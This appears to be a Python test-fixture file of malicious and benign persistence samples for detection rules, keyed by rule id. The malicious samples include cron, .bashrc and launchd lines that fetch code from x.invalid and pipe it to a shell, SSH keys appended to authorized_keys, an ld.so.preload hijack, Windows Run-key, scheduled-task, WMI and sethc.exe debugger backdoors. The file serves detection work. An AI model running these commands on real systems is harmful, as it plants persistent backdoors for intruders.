"""Samples of persistence, and harmless twins close to them; ``¦`` marks cuts."""

from __future__ import annotations

from tests.examine.yara.samples.support import joined

BAD: dict[str, list[bytes]] = {
    "RG-PER-0016": [joined('<runtime><appDomainManag¦erAssembly value="a"/></runtime>')],
    "RG-PER-0001": [
        joined("*/5 * * * * root cu¦rl -s h¦t¦t¦p://x.i¦nvalid/a | bash\n"),
        joined("(crontab -l; echo '* * * * * wg¦e¦t -q¦O- x.i¦nvalid | sh') | crontab -\n"),
    ],
    "RG-PER-0002": [
        joined("echo 'ssh-rsa AAA¦A§b200§ m¦e' >> ~/.ssh/authorized_keys\n"),
    ],
    "RG-PER-0003": [
        joined("echo /usr/local/lib/x.so > /etc/ld.s¦o.preload\n"),
        joined("cp x /etc/l¦d.so.preload\n"),
    ],
    "RG-PER-0004": [
        joined("[Unit]\n[Ser¦vice]\nExecStart=/bin/ba¦sh -c '/tmp/.x/run'\n[Install]\nWant¦edBy=multi-user.target\n"),
    ],
    "RG-PER-0005": [
        joined("echo 'cu¦rl -s h¦ttp://x.i¦nv¦alid/a | bash' >> ~/.bashrc\n"),
    ],
    "RG-PER-0006": [
        joined(
            "<plist><dict><key>ProgramA¦rguments</key><ar"
            "ray><string>/bin/sh</string><string>-c</stri"
            "ng><string>cu¦rl -s h¦tt¦p://x.i¦nvalid/a | "
            "sh</string></array><key>RunAt¦Load</key><true/></dict></plist>"
        ),
    ],
    "RG-PER-0007": [
        joined("import os, bas¦e64; e¦xec(bas¦e6¦4.b64de¦code('cGFzcw=='))\n"),
        joined("import urllib.request as u; e¦xec(u.u¦rl¦o¦pen('http://x.invalid').read())\n"),
    ],
    "RG-PER-0010": [
        joined(
            "reg add HKCU\\Software\\Microsoft\\Windows\\Curr"
            'e¦ntVersion\\Run /v x /d "wsc¦r¦ipt %APPDATA%\\x.vbs" /f\r\n'
        ),
        joined('sh.RegWrite "HKCU\\Software\\Micro¦soft\\Windows\\CurrentVersion\\Run\\x", p\r\n'),
    ],
    "RG-PER-0011": [
        joined('schtasks /create /sc minute /mo 5 /t¦n x /t¦r "power¦shel¦l -w¦ h¦idden -File %TEMP%\\x.ps1"\r\n'),
    ],
    "RG-PER-0012": [
        joined(
            "$f = Set-Wmi¦Instance -Class "
            "__Even¦tFilter; $c = Set-Wmi¦Instance "
            "-Class CommandLineE¦ventConsumer; Set-Wmi¦Instance -Class __FilterToCo¦nsumerBinding"
        ),
    ],
    "RG-PER-0013": [
        joined('copy x.vbs "%APPDATA%\\Microsoft\\W¦i¦n¦d¦o¦w¦s\\S¦tart Menu\\Programs\\Startup\\x.vbs"\r\n'),
    ],
    "RG-PER-0014": [
        joined('reg add "HKLM\\...\\Image File Execution Opti¦ons\\sethc.exe" /v Debugger /d cm¦d.exe\r\n'),
    ],
    "RG-PER-0015": [
        joined("mkdir -p ~/.ssh; echo 'ssh-rsa AAA¦AB3NzaC1yc2E§a80§ me@x.invalid' >> ~/.ssh/author¦ized_keys\n"),
        joined('printf "%s\\n" "ssh-ed25519 AAA¦AC3NzaC1lZDI§a40§" >> /root/.ssh/author¦ized_keys\n'),
    ],
}
"""Samples that a rule must find, by the rule's id."""

BENIGN: dict[str, list[bytes]] = {
    "RG-PER-0016": [b'<runtime><assemblyBinding xmlns="urn:schemas-microsoft-com:asm.v1"/></runtime>'],
    "RG-PER-0001": [
        joined("*/5 * * * * root cu¦rl -s h¦ttps://example.org/ping > /dev/null\n"),
        joined("crontab -l | grep backup\n"),
    ],
    "RG-PER-0002": [
        joined("ssh-copy-id user@example.org\n"),
        joined("cat key.pub >> ~/.ssh/authorized_keys\n"),
    ],
    "RG-PER-0003": [
        joined("if [ -s /etc/ld.so.preload ]; then echo found; fi\n"),
        joined("cat /etc/ld.so.preload\n"),
    ],
    "RG-PER-0004": [
        joined(
            "[Unit]\n"
            "[Ser¦vice]\n"
            "ExecStart=/usr/sbin/serverd --state /tmp/state\n"
            "[Install]\n"
            "Want¦edBy=multi-user.target\n"
        ),
    ],
    "RG-PER-0005": [
        joined("echo 'export PATH=$PATH:/opt/bin' >> ~/.bashrc\n"),
    ],
    "RG-PER-0006": [
        joined(
            "<plist><dict><key>ProgramA¦rguments</key><ar"
            "ray><string>/usr/local/bin/updater</string><"
            "string>--check</string></array><key>RunAt¦Load</key><true/></dict></plist>"
        ),
    ],
    "RG-PER-0007": [
        joined(
            "import os; var = 'X'; enabled = "
            "os.en¦viron.get(var, 'local') == 'local'; enabled and __import__('_hack').add_shim();\n"
        ),
        joined("import sys; e¦xec('try: import coverage\\nexcept ImportError: pass')\n"),
    ],
    "RG-PER-0010": [
        joined("reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\r\n"),
        joined("reg add HKCU\\Software\\Company\\App /v x /d 1 /f\r\n"),
    ],
    "RG-PER-0011": [
        joined("schtasks /create /sc daily /tn backup /tr C:\\tools\\backup.exe\r\n"),
        joined("schtasks /query /fo list\r\n"),
    ],
    "RG-PER-0012": [
        joined("Get-WmiObject -Class __Even¦tFilter -Namespace root\\subscription"),
    ],
    "RG-PER-0013": [
        joined('copy app.lnk "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"\r\n'),
        joined('dir "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"\r\n'),
    ],
    "RG-PER-0014": [
        joined('reg add "HKLM\\...\\Image File Execution Options\\myapp.exe" /v Debugger /d vsjitdebugger.exe\r\n'),
    ],
    "RG-PER-0015": [
        joined("cat id_rsa.pub >> ~/.ssh/author¦ized_keys\n"),
        joined("echo 'ssh-rsa AAA¦A...' >> ~/.ssh/author¦ized_keys\n"),
    ],
}
"""Harmless content that is like a rule's samples, by the rule's id."""
